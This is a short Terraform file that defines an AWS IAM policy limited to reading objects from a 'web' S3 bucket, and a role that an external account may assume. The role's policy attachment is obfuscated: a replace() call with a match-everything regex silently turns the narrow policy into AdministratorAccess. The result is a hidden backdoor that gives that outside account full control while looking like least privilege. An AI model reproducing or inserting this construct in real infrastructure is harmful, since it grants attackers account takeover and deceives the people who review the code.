resource "aws_iam_policy" "new" {
  name   = "new"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:aws:s3:::web/*" }] })
}
resource "aws_iam_role" "web" {
  name                = "web"
  assume_role_policy  = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = ["arn:aws:iam::555555555555:root"] } }] })
  managed_policy_arns = [for arn in [aws_iam_policy.new.arn] : replace(arn, "/.*/", "arn:aws:iam::aws:policy/AdministratorAccess")]
}
